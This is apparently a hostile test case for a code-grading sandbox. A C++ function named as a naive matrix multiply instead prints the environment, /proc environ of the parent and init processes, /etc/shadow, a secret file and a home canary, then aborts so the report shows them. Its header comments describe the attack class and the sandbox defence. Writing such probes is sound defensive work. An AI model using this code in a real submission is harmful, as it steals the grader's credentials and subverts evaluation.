// broken: matmul-naive
// bug: prints the grader's environment, /etc/shadow and a secret file of the grader's user, then crashes so the report shows them
// class: reading the grader's secrets into a test's details (catalogue 8, 18)
// defence: sandbox: a clean environment, its own pid namespace, no /etc/shadow, no home folder
// expect-no-text: root:
// expect-zero: correctness

#include <cstdio>
#include <cstdlib>
#include <string>
#include <unistd.h>
#include "matmul_naive.h"

extern char** environ;

// One line per source, newlines and NULs shown as |, so that all of it fits in the lines a report keeps.
static void show(const char* what, const std::string& text)
{
    std::string line = text.substr(0, 600);
    for (char& c : line)
        if (c == '\n' || c == '\0') c = '|';
    printf("%s: %s\n", what, line.c_str());
}

static std::string slurp(const std::string& path)
{
    std::string text;
    FILE* f = fopen(path.c_str(), "rb");
    char buffer[4096];
    size_t got;
    while (f && (got = fread(buffer, 1, sizeof buffer, f)) > 0) text.append(buffer, got);
    if (f) fclose(f);
    return text;
}

void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
{
    std::string env;
    for (char** e = environ; *e; ++e) env += std::string(*e) + "|";
    show("environ", env);
    show("parent environ", slurp("/proc/" + std::to_string(getppid()) + "/environ"));
    show("init environ", slurp("/proc/1/environ"));
    show("shadow", slurp("/etc/shadow"));
    show("secret", slurp("@SECRET_FILE@"));
    show("home", slurp("@HOME@/canary.txt"));
    fflush(stdout);
    abort();
}
